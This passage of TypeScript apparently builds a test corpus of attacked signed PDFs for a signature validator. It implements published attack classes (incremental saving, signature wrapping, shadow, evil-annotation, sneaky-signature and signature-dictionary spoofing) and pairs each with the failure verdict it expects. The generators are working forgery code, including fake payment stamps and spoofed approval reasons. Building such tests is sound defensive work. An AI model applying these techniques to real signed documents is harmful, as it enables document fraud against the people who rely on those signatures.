      description: "CMS SignedData without its certificates field",
      bytes: splice(
        signed,
        contents.start,
        contents.end,
        contentsHex(
          editSignedData(cms, (fields, tags) => fields.filter((_, i) => tags[i] !== 0xa0)),
          contents.start,
          contents.end,
        ),
      ),
      expect: {
        signature: 0,
        indication: ["INDETERMINATE", "TOTAL_FAILED"],
        subIndication: ["NO_SIGNING_CERTIFICATE_FOUND", "FORMAT_FAILURE"],
      },
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 2. Incremental saving attack (Mladenov et al. 2019, §4.2)
// ---------------------------------------------------------------------------------------------

/** New page content: a red "ĐÃ THANH TOÁN"-style block over the body text. */
const FORGED_CONTENT = "q 0.8 0 0 rg 85 560 300 60 re f Q";

function newContentUpdate(bytes: Uint8Array): Uint8Array {
  const file = readPdf(bytes);
  const page = firstPage(file);
  const number = nextObjectNumber(file);
  const contents = page.dict.get("Contents");
  const list = Array.isArray(contents) ? contents : contents instanceof PdfRef ? [contents] : [];
  return appendUpdate(bytes, [
    { objectNumber: number, value: stream(FORGED_CONTENT) },
    {
      objectNumber: page.ref.objectNumber,
      generation: page.ref.generation,
      value: page.dict.with({ Contents: [...list, new PdfRef(number)] }),
    },
  ]);
}

/**
 * Incremental saving: content appended after signing (a new revision with a normal xref; the
 * same objects without xref and trailer, for lenient readers; junk after the last %%EOF).
 * `xrefStreamSigned` is a signed letter whose newest section is an xref stream.
 */
export function incrementalSavingAttacks(bases: AttackBases, xrefStreamSigned: Uint8Array): Attack[] {
  const signed = bases.signed;
  const file = readPdf(signed);
  const page = firstPage(file);
  const otherAfter = (signature: number): AttackExpectation => ({
    signature,
    indication: ["TOTAL_FAILED"],
    modification: "other",
  });
  const redefinedContent = Buffer.concat([
    ascii(
      `${page.content.objectNumber} ${page.content.generation} obj\n<< /Length ${FORGED_CONTENT.length} >>\nstream\n`,
    ),
    ascii(FORGED_CONTENT),
    ascii("\nendstream\nendobj\n"),
  ]);
  return [
    {
      label: "isa-new-content",
      attackClass: "incremental-saving",
      description: "a new revision (classic xref) adds a content stream to the signed page",
      bytes: newContentUpdate(signed),
      expect: otherAfter(0),
    },
    {
      label: "isa-new-content-counter-signed",
      attackClass: "incremental-saving",
      description: "a new revision adds page content after signer and seal",
      bytes: newContentUpdate(bases.counterSigned),
      expect: otherAfter(1),
    },
    {
      label: "isa-new-content-xref-stream",
      attackClass: "incremental-saving",
      description: "a new revision (xref stream) adds page content to a signed xref-stream letter",
      bytes: newContentUpdate(xrefStreamSigned),
      expect: otherAfter(0),
    },
    {
      label: "isa-no-xref-no-trailer",
      attackClass: "incremental-saving",
      description: "the page's content stream redefined after %%EOF without xref or trailer",
      bytes: new Uint8Array(Buffer.concat([view(signed), redefinedContent])),
      expect: otherAfter(0),
      problem: "DATA_AFTER_LAST_EOF",
    },
    {
      label: "isa-junk-after-eof",
      attackClass: "incremental-saving",
      description: "bytes after the last %%EOF",
      bytes: new Uint8Array(
        Buffer.concat([view(signed), ascii("% appended by someone else\nBT /F1 12 Tf (x) Tj ET\n")]),
      ),
      expect: otherAfter(0),
      problem: "DATA_AFTER_LAST_EOF",
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 3. Signature wrapping (Mladenov et al. 2019, §4.3)
// ---------------------------------------------------------------------------------------------

/**
 * Signature wrapping: the byte ranges are moved or widened so that bytes the signer never saw sit
 * in the unsigned gap; or an object is hidden inside the gap (after a shortened /Contents) and a
 * later cross-reference section points into it.
 */
export function signatureWrappingAttacks(bases: AttackBases): Attack[] {
  const signed = bases.signed;
  const info = signatureAt(signed, 0);
  const [, b, c, d] = byteRangeOf(info);
  const contents = info.contentsOffsets!;
  const span = byteRangeSpan(signed, info);
  const expect: AttackExpectation = {
    signature: 0,
    indication: ["TOTAL_FAILED"],
    subIndication: ["FORMAT_FAILURE"],
  };

  // Moved: the second range starts 24 bytes later (still ending at %%EOF), leaving the end of the
  // signature dictionary unsigned, free to be rewritten.
  const moved = overwrite(signed, span.start, span.end, `[0 ${b} ${c + 24} ${d - 24}]`);
  // Widened: the gap grows 40 bytes to the left, over the end of the signature dictionary's keys.
  const widened = overwrite(signed, span.start, span.end, `[0 ${b - 40} ${c} ${d}]`);

  // Hidden in the gap: /Contents shortened to the DER; after it, in a comment as far as the
  // dictionary is concerned, a new page object; a later xref points the page there.
  const file = readPdf(signed);
  const page = firstPage(file);
  const cms = cmsOf(info);
  const hex = `<${view(cms).toString("hex").toUpperCase()}>`;
  const contentNumber = nextObjectNumber(file);
  const forgedPage = formatObject(page.dict.with({ Contents: new PdfRef(contentNumber) }));
  const hiddenObject = `${page.ref.objectNumber} ${page.ref.generation} obj ${forgedPage} endobj`;
  const gapText = `${hex}%${hiddenObject}`;
  const gapWidth = contents.end - contents.start;
  if (gapText.length + 1 > gapWidth) {
    throw new Error("the hidden object does not fit the /Contents placeholder");
  }
  const hiddenAt = contents.start + hex.length + 1;
  const withHidden = splice(
    signed,
    contents.start,
    contents.end,
    `${gapText}${" ".repeat(gapWidth - gapText.length - 1)}\n`,
  );
  const hidden = appendRawUpdate(
    withHidden,
    [
      {
        objectNumber: contentNumber,
        text: `${contentNumber} 0 obj\n<< /Length ${FORGED_CONTENT.length} >>\nstream\n${FORGED_CONTENT}\nendstream\nendobj`,
      },
    ],
    [{ objectNumber: page.ref.objectNumber, offset: hiddenAt }],
  );
  return [
    {
      label: "swa-second-range-moved",
      attackClass: "signature-wrapping",
      description: "second range moved to start 24 bytes after /Contents",
      bytes: moved,
      expect,
    },
    {
      label: "swa-gap-widened",
      attackClass: "signature-wrapping",
      description: "gap widened beyond /Contents",
      bytes: widened,
      expect,
    },
    {
      label: "swa-object-in-gap",
      attackClass: "signature-wrapping",
      description:
        "a page object hidden in the unsigned gap after a shortened /Contents, pointed to by a later xref",
      bytes: hidden,
      expect,
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 4. Shadow attacks (Mainka et al. 2021)
// ---------------------------------------------------------------------------------------------

/** An update that replaces object `ref` by `transform(old)`. */
function redefine(
  bytes: Uint8Array,
  ref: PdfRef,
  transform: (value: PdfObject | undefined) => PdfObject,
): Uint8Array {
  const file = readPdf(bytes);
  return appendUpdate(bytes, [
    { objectNumber: ref.objectNumber, generation: ref.generation, value: transform(file.resolve(ref)) },
  ]);
}

/** The optional content configuration dictionary /OCProperties /D of the shadow letter. */
function ocDefaults(file: PdfFile): { ref: PdfRef; dict: PdfDict } {
  const root = file.deref(file.trailer.get("Root"));
  const properties = root instanceof PdfDict ? file.deref(root.get("OCProperties")) : undefined;
  const ref = properties instanceof PdfDict ? properties.getRef("D") : undefined;
  const dict = ref ? file.resolve(ref) : undefined;
  if (!ref || !(dict instanceof PdfDict)) {
    throw new Error("no indirect /OCProperties /D");
  }
  return { ref, dict };
}

/** The page's resource entry `category`/`name` as a reference. */
function pageResource(file: PdfFile, category: string, name?: string): PdfRef {
  const page = firstPage(file);
  const resources = file.deref(page.dict.get("Resources"));
  const group = resources instanceof PdfDict ? file.deref(resources.get(category)) : undefined;
  if (!(group instanceof PdfDict)) {
    throw new Error(`no /${category} resources`);
  }
  const value = name ? group.get(name) : [...group.map.values()][0];
  if (!(value instanceof PdfRef)) {
    throw new Error(`no indirect /${category} resource`);
  }
  return value;
}

/**
 * Shadow attacks on a signed letter: hide (a later revision only turns the overlay's optional
 * content group OFF, revealing what it covered), replace (a form field's signed value; a font; the
 * shared XObject the page draws) and hide-and-replace (the page's content stream redefined).
 * `target` is the shadow letter signed (approval) or certified.
 */
export function shadowAttacks(target: Uint8Array, prefix: string): Attack[] {
  const file = readPdf(target);
  const page = firstPage(file);
  const other: AttackExpectation = { signature: 0, indication: ["TOTAL_FAILED"], modification: "other" };
  const defaults = ocDefaults(file);
  const font = pageResource(file, "Font");
  const shared = pageResource(file, "XObject", "Shared");
  return [
    {
      label: `${prefix}shadow-hide-overlay`,
      attackClass: "shadow-hide",
      description: "later revision flips the overlay's optional content group from ON to OFF",
      bytes: appendUpdate(target, [
        {
          objectNumber: defaults.ref.objectNumber,
          generation: defaults.ref.generation,
          value: defaults.dict.with({ ON: [], OFF: defaults.dict.get("ON") ?? [] }),
        },
      ]),
      expect: other,
    },
    {
      label: `${prefix}shadow-replace-form-value`,
      attackClass: "shadow-replace",
      description: "later revision replaces the signed value of a filled form field",
      bytes: fillField(target, SHADOW_TEXT.field, "900.000.000"),
      expect: { signature: 0, indication: ["TOTAL_FAILED"] },
    },
    {
      label: `${prefix}shadow-replace-form-appearance`,
      attackClass: "shadow-replace",
      description: "later revision replaces only the appearance of a filled form field (its /V unchanged)",
      bytes: fillField(target, SHADOW_TEXT.field, "900.000.000", { appearanceOnly: true }),
      expect: { signature: 0, indication: ["TOTAL_FAILED"] },
    },
    {
      label: `${prefix}shadow-replace-font`,
      attackClass: "shadow-replace",
      description: "later revision redefines a font object the page uses",
      bytes: redefine(
        target,
        font,
        () =>
          new PdfDict([
            ["Type", new PdfName("Font")],
            ["Subtype", new PdfName("Type1")],
            ["BaseFont", new PdfName("Courier")],
          ]),
      ),
      expect: other,
    },
    {
      label: `${prefix}shadow-replace-shared-object`,
      attackClass: "shadow-replace",
      description: "later revision redefines the Form XObject the page draws",
      bytes: redefine(target, shared, (old) => {
        const dict =
          old instanceof PdfStream
            ? old.dict.with({ Filter: undefined, DecodeParms: undefined })
            : new PdfDict();
        return new PdfStream(dict, ascii("q BT /Helv 11 Tf 85 470 Td (Noi nhan: ai cung duoc) Tj ET Q"));
      }),
      expect: other,
    },
    {
      label: `${prefix}shadow-hide-and-replace`,
      attackClass: "shadow-hide-and-replace",
      description: "later revision redefines the page's content stream object (no new objects)",
      bytes: redefine(target, page.content, () =>
        stream(`${FORGED_CONTENT} BT /F1 24 Tf 85 700 Td (x) Tj ET`),
      ),
      expect: other,
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 5. Evil annotation and sneaky signature (Mainka et al., S&P 2021) on certified letters
// ---------------------------------------------------------------------------------------------

function annotationUpdate(bytes: Uint8Array, subtype: "FreeText" | "Stamp"): Uint8Array {
  const file = readPdf(bytes);
  const page = firstPage(file);
  let next = nextObjectNumber(file);
  const appearanceNumber = next++;
  const annotationNumber = next++;
  const rect = [85, 560, 505, 620];
  const annotation = new PdfDict([
    ["Type", new PdfName("Annot")],
    ["Subtype", new PdfName(subtype)],
    ["Rect", rect],
    ["P", page.ref],
    ["F", 4],
    ["Contents", textString("Đã hủy")],
    ["AP", new PdfDict([["N", new PdfRef(appearanceNumber)]])],
  ]);
  if (subtype === "FreeText") {
    annotation.map.set("DA", textString("/Helv 12 Tf 0 g"));
  }
  return appendUpdate(bytes, [
    {
      objectNumber: appearanceNumber,
      value: stream(COVER_APPEARANCE, [
        ["Type", new PdfName("XObject")],
        ["Subtype", new PdfName("Form")],
        ["BBox", [0, 0, 420, 60]],
      ]),
    },
    { objectNumber: annotationNumber, value: annotation },
    appendToArray(file, page.ref, page.dict, "Annots", new PdfRef(annotationNumber)),
  ]);
}

/**
 * Evil annotations: a FreeText or Stamp annotation whose appearance covers the letter's text,
 * added after certification (P=2 and P=3; ISO 32000 lets P=3 add annotations, Lienthong never).
 */
export function evilAnnotationAttacks(bases: AttackBases): Attack[] {
  const expect: AttackExpectation = { signature: 0, indication: ["TOTAL_FAILED"], modification: "other" };
  return [
    {
      label: "evil-annotation-freetext-p2",
      attackClass: "evil-annotation",
      description: "FreeText annotation over the text of a certified P=2 letter",
      bytes: annotationUpdate(bases.certified[2], "FreeText"),
      expect,
    },
    {
      label: "evil-annotation-freetext-p3",
      attackClass: "evil-annotation",
      description: "FreeText annotation over the text of a certified P=3 letter",
      bytes: annotationUpdate(bases.certified[3], "FreeText"),
      expect,
    },
    {
      label: "evil-annotation-stamp-p3",
      attackClass: "evil-annotation",
      description: "Stamp annotation over the text of a certified P=3 letter",
      bytes: annotationUpdate(bases.certified[3], "Stamp"),
      expect,
    },
    {
      label: "evil-annotation-freetext-approval",
      attackClass: "evil-annotation",
      description: "FreeText annotation over the text of a letter with an approval signature",
      bytes: annotationUpdate(bases.shadowSigned, "FreeText"),
      expect,
    },
  ];
}

/**
 * Sneaky signatures on a certified P=2 letter (signing is allowed there): a new signature field
 * whose widget appearance covers the text, left unsigned; and one signed by an attacker whose
 * certificate chains to no trusted root.
 */
export async function sneakySignatureAttacks(bases: AttackBases): Promise<Attack[]> {
  const target = bases.certified[2];
  const file = readPdf(target);
  const page = firstPage(file);
  const root = file.deref(file.trailer.get("Root"));
  const acroFormRef = root instanceof PdfDict ? root.getRef("AcroForm") : undefined;
  const acroForm = acroFormRef
    ? file.resolve(acroFormRef)
    : root instanceof PdfDict
      ? root.getDict("AcroForm")
      : undefined;
  if (!(root instanceof PdfDict) || !(acroForm instanceof PdfDict)) {
    throw new Error("the certified letter has no AcroForm");
  }
  let next = nextObjectNumber(file);
  const appearanceNumber = next++;
  const widgetNumber = next++;
  const widget = new PdfDict([
    ["Type", new PdfName("Annot")],
    ["Subtype", new PdfName("Widget")],
    ["FT", new PdfName("Sig")],
    ["T", textString("Sneaky")],
    ["P", page.ref],
    ["Rect", [85, 560, 505, 620]],
    ["F", 4],
    ["AP", new PdfDict([["N", new PdfRef(appearanceNumber)]])],
  ]);
  const fieldsOwner = acroFormRef ?? file.trailer.getRef("Root")!;
  const unsigned = appendUpdate(target, [
    {
      objectNumber: appearanceNumber,
      value: stream(COVER_APPEARANCE, [
        ["Type", new PdfName("XObject")],
        ["Subtype", new PdfName("Form")],
        ["BBox", [0, 0, 420, 60]],
      ]),
    },
    { objectNumber: widgetNumber, value: widget },
    appendToArray(file, page.ref, page.dict, "Annots", new PdfRef(widgetNumber)),
    acroFormRef
      ? appendToArray(file, fieldsOwner, acroForm, "Fields", new PdfRef(widgetNumber))
      : {
          objectNumber: fieldsOwner.objectNumber,
          value: root.with({
            AcroForm: acroForm.with({
              Fields: [...(acroForm.getArray("Fields") ?? []), new PdfRef(widgetNumber)],
            }),
          }),
        },
  ]);
  const attackerSigned = await signPdf(target, {
    signer: signerOf(bases.signers.attacker),
    reason: "Ký số văn bản",
    signingTime: new Date(SIGNING_TIME.getTime() + 3_600_000),
    appearance: {
      kind: "stamp",
      page: 1,
      rect: [85, 560, 505, 620],
      lines: ["Số: 9999/STC-BCTC", "ĐÃ THANH TOÁN 900.000.000 đồng"],
    },
  });
  // DocMDP /P 1 allows no change at all (ISO 32000-1 §12.8.2.2.2, Table 254): not even a signature or form filling.
  const p1Signed = await signAll(bases.certified[1], [bases.signers.organisation]);
  const p1Filled = fillField(bases.certified[1], SHADOW_TEXT.emptyField, "Da xem");
  return [
    {
      label: "docmdp-p1-signed-after",
      attackClass: "sneaky-signature",
      description: "an approval signature added to a letter certified with /P 1 (no changes allowed)",
      bytes: p1Signed,
      expect: { signature: 0, indication: ["TOTAL_FAILED"], modification: "other" },
    },
    {
      label: "docmdp-p1-form-filled",
      attackClass: "shadow-replace",
      description: "an empty field filled in a letter certified with /P 1 (no changes allowed)",
      bytes: p1Filled,
      expect: { signature: 0, indication: ["TOTAL_FAILED"], modification: "other" },
    },
    {
      label: "sneaky-signature-unsigned-p2",
      attackClass: "sneaky-signature",
      description: "new unsigned signature field whose appearance covers the text (certified P=2)",
      bytes: unsigned,
      expect: { signature: 0, indication: ["TOTAL_FAILED"], modification: "other" },
    },
    {
      label: "sneaky-signature-untrusted-p2",
      attackClass: "sneaky-signature",
      description:
        "new signature by an untrusted attacker whose visible appearance covers the text (certified P=2)",
      bytes: attackerSigned,
      expect: {
        signature: 1,
        indication: ["INDETERMINATE", "TOTAL_FAILED"],
        subIndication: ["NO_CERTIFICATE_CHAIN_FOUND"],
      },
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 6. Signature-dictionary spoofing
// ---------------------------------------------------------------------------------------------

/** The signature dictionary's object text with a key's hex-string (or name) value replaced. */
function spoofedDictionaryText(
  bytes: Uint8Array,
  info: PdfSignatureInfo,
  key: string,
  value: string,
): Uint8Array {
  const file = readPdf(bytes);
  const text = Buffer.from(objectText(file, info.signatureRef)).toString("latin1");
  const pattern = new RegExp(`/${key}\\s*(<[0-9A-Fa-f\\s]*>|\\([^)]*\\)|/[^\\s/<>\\[\\]()]+)`);
  const replaced = pattern.test(text)
    ? text.replace(pattern, `/${key} ${value}`)
    : text.replace("<<", `<</${key} ${value} `);
  return ascii(replaced);
}

/**
 * Signature-dictionary spoofing: a later revision changes /M, /Name, /Reason or /SubFilter of a
 * signed signature dictionary (what a viewer displays as the signing time, signer and purpose); or
 * a later revision carries a second definition of the dictionary that its xref does not point to,
 * for readers that rebuild the xref by scanning.
 */
export function signatureDictionarySpoofing(bases: AttackBases): Attack[] {
  const variants: { label: string; key: string; value: string; pdf: Uint8Array; index: number }[] = [
    {
      label: "spoof-signing-time",
      key: "M",
      value: `(D:20200101000000+07'00')`,
      pdf: bases.signed,
      index: 0,
    },
    { label: "spoof-name", key: "Name", value: "(Nguyen Van A)", pdf: bases.signed, index: 0 },
    {
      label: "spoof-reason",
      key: "Reason",
      value: "(Phe duyet chi 900.000.000 dong)",
      pdf: bases.signed,
      index: 0,
    },
    {
      label: "spoof-subfilter",
      key: "SubFilter",
      value: "/adbe.pkcs7.detached",
      pdf: bases.signed,
      index: 0,
    },
    {
      label: "spoof-reason-first-of-two",
      key: "Reason",
      value: "(Phe duyet)",
      pdf: bases.counterSigned,
      index: 0,
    },
  ];
  const attacks: Attack[] = variants.map(({ label, key, value, pdf, index }) => {
    const info = signatureAt(pdf, index);
    return {
      label,
      attackClass: "signature-dictionary-spoofing",
      description: `later revision redefines signature dictionary #${index + 1} with a different /${key}`,
      bytes: appendRawUpdate(pdf, [
        { objectNumber: info.signatureRef.objectNumber, text: spoofedDictionaryText(pdf, info, key, value) },
      ]),
      expect: { signature: index, indication: ["TOTAL_FAILED"], subIndication: ["FORMAT_FAILURE"] },
    };
  });
  // Duplicate, not in the xref: the update's xref only rewrites the Info dictionary, unchanged.
  const file = readPdf(bases.signed);
  const info = signatureAt(bases.signed, 0);
  const infoRef = file.trailer.getRef("Info");
  const infoText = infoRef ? objectText(file, infoRef) : undefined;
  if (!infoRef || !infoText) {
    throw new Error("the letter has no /Info dictionary");
  }
  attacks.push({
    label: "spoof-duplicate-unreferenced",
    attackClass: "signature-dictionary-spoofing",
    description:
      "later revision holds a second, spoofed definition of the signature dictionary that its xref ignores",
    bytes: appendRawUpdate(bases.signed, [
      { text: spoofedDictionaryText(bases.signed, info, "Reason", "(Phe duyet chi 900.000.000 dong)") },
      { objectNumber: infoRef.objectNumber, text: infoText },
    ]),
    expect: { signature: 0, indication: ["TOTAL_FAILED"], modification: "other" },
  });
  return attacks;
}

// ---------------------------------------------------------------------------------------------
// The whole corpus
// ---------------------------------------------------------------------------------------------

/** Every attack of every class, from `bases` (+ a signed xref-stream letter for the ISA variant). */
export async function buildAttackCorpus(bases: AttackBases): Promise<Attack[]> {
  const xrefStreamSigned = await signAll(await toXrefStreamPdf(await makeLetterPdf({ pages: 1 })), [
    bases.signers.person,
  ]);
  const attacks = [
    ...universalSignatureForgery(bases),
    ...incrementalSavingAttacks(bases, xrefStreamSigned),
    ...signatureWrappingAttacks(bases),
    ...shadowAttacks(bases.shadowSigned, ""),
    ...shadowAttacks(bases.certified[2], "certified-p2-"),
    ...evilAnnotationAttacks(bases),
    ...(await sneakySignatureAttacks(bases)),
    ...signatureDictionarySpoofing(bases),
  ];
  const labels = new Set(attacks.map((attack) => attack.label));
  if (labels.size !== attacks.length) {
    throw new Error("attack labels must be unique");
  }
  return attacks;
}

/** The unsigned LibreOffice letter (5–15 s; once per test file). */
export function libreOfficeLetter(): Promise<Uint8Array> {
  return makeLibreOfficePdf();
}
